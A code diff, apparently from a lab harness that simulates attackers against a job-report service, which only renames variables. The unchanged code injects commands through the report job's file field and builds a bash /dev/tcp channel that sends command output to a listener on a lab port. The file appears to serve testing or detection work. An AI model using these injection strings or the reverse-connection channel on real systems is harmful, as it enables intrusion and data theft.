@@ -35,10 +35,10 @@ def inject(visitor: Visitor, line: str) -> bytes:
     """Run `line` through the unquoted field of the report job."""
     report = visitor.chance.choice(("words", "common", "first", "matches"))
     rest = visitor.chance.choice((" #", "; echo", f"; cat {some_file(visitor)}", f"; wc -c {some_file(visitor)}"))
-    status, said = visitor.post("/job/report", report=report, file=f"{some_file(visitor)}; {line}{rest}", number="7")
+    status, output = visitor.post("/job/report", report=report, file=f"{some_file(visitor)}; {line}{rest}", number="7")
     if status != 200:
         raise NotDoneError(f"the job answered {status}")
-    return said
+    return output
 
 
 def stray_download(visitor: Visitor, path: str) -> None:
@@ -116,8 +116,8 @@ def login_burst(visitor: Visitor) -> None:
 def connect_back(visitor: Visitor) -> None:
     """Connect from a job to a port outside the service, where a listener answers, and send output to it."""
     stranger, word = visitor.lab.stranger, f"{visitor.user}-{visitor.chance.randrange(10**6)}"
-    said = visitor.chance.sample(COMMANDS, visitor.chance.randint(1, 3))
-    talk = " && ".join(f"echo {word} >&3 && read -t {ANSWER_SECONDS} x <&3 && {command} >&3" for command in said)
+    commands = visitor.chance.sample(COMMANDS, visitor.chance.randint(1, 3))
+    talk = " && ".join(f"echo {word} >&3 && read -t {ANSWER_SECONDS} x <&3 && {command} >&3" for command in commands)
     inject(visitor, f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{stranger.port} && {talk}'")
     if word not in stranger.heard:
         raise NotDoneError("the listener heard nothing")
